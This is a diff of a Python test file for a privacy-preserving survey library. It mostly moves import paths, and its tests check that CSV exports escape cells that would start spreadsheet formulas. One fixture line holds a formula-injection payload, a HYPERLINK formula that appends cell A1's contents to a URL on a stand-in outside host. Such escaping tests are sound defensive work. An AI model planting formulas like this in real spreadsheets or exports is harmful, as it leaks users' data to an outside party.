@@ -9,9 +9,10 @@ from hypothesis import strategies as st
 
 import fldp
 from collector_server import Server, batch, specification
-from fldp import Survey, render, search_view
-from fldp.csv_cells import escape_cell, unescape_cell
-from fldp.experiments.table import COLUMNS, Table
+from fldp import Survey
+from fldp.experiments.runner.table import COLUMNS, Table
+from fldp.presentation import search, tables
+from fldp.support.csv_cells import escape_cell, unescape_cell
 
 LINK = '=HYPERLINK("http://stranger.example/?"&A1,"see")'
 FORMULAS = (
@@ -62,7 +63,7 @@ def rows_of(text):
 
 def test_estimates_as_csv():
     estimate = labelled(FORMULAS)
-    rows = rows_of(render.as_csv(estimate, 0.95, None))
+    rows = rows_of(tables.as_csv(estimate, 0.95, None))
     assert [unescape_cell(row["label"]) for row in rows] == list(FORMULAS)
     assert not any(starts_a_formula(row["label"]) for row in rows)
     assert [float(row["count"]) for row in rows] == estimate.counts.tolist()
@@ -72,7 +73,7 @@ def test_estimates_as_csv():
 def test_strings_of_a_search_as_csv():
     """Whoever answers chooses these."""
     found = fldp.heavy_hitters([LINK] * 3000 + ["harmless"] * 2000, epsilon=6.0, k=2, rng=3)
-    strings = [row["string"] for row in rows_of(search_view.as_csv(found, 0.95))]
+    strings = [row["string"] for row in rows_of(search.as_csv(found, 0.95))]
     assert any(string.startswith("'=H") for string in strings)
     assert not any(map(starts_a_formula, strings))
 
